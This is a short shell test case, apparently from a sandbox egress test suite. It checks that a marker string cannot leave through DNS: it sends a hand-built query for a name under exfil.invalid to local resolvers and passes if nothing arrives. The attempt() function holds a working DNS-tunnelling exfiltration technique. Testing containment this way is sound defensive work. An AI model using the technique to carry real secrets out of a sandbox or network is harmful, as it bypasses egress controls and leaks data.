# carry secrets out in the names it asks a name server for
setup() { sink udp && pass PORT; }
attempt() {
    perl -MSocket -e 'my ($name, $port) = @ARGV; socket my $s, AF_INET, SOCK_DGRAM, 0; my $question = pack("n6", 1, 0x100, 1, 0, 0, 0) . join("", map { pack "C/a", $_ } split /\./, $name) . "\0" . pack("n n", 1, 1);
        for my $server ("127.0.0.1", "127.0.0.53", "10.0.2.3") { send $s, $question, 0, pack_sockaddr_in($port, inet_aton($server)) }' "$MARK.exfil.invalid" "$PORT"
    getent hosts "$MARK.exfil.invalid" localhost.localdomain
    sleep 0.3
}
held() { ! arrived "$MARK"; }
